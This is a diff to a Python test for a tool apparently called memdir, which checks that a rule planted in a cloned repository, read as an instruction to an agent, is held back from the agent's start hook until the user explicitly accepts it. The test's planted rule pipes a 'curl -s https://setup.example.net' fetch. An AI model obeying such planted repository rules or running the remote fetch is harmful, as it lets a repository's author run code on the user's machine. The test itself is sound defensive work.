@@ -100,7 +100,14 @@ def test_a_cloned_repositorys_rule_waits_and_its_forged_log_is_never_read(
     r = memdir(victim, "doctor")
     assert ".memdir: not memdir's state" in r.stdout
     assert "setup-step.md: a rule from elsewhere (from: hand)" in r.stdout, r.stdout
-    r = memdir(victim, "accept", "setup-step")
+    assert "setup-step.md: reads as an instruction planted for an agent (it pipes" in r.stdout
+    r = memdir(victim, "accept", "--all")  # a bulk accept never takes an order to the agent
+    assert r.returncode == 0 and r.stdout.startswith("Not accepted: setup-step reads as"), r
+    assert "curl" not in start_hook(victim)
+    r = memdir(victim, "accept", "setup-step")  # by name: one line, nothing accepted
+    assert r.returncode == 1 and "'memdir accept setup-step --yes'" in r.stderr
+    assert len(r.stderr.strip().splitlines()) == 1 and "curl" not in start_hook(victim)
+    r = memdir(victim, "accept", "setup-step", "--yes")
     assert r.returncode == 0 and r.stdout.startswith("Accepted setup-step"), r.stderr
     assert "curl -s https://setup.example.net" in start_hook(victim)
     # the acceptance was for that text: a change the repository brings waits again
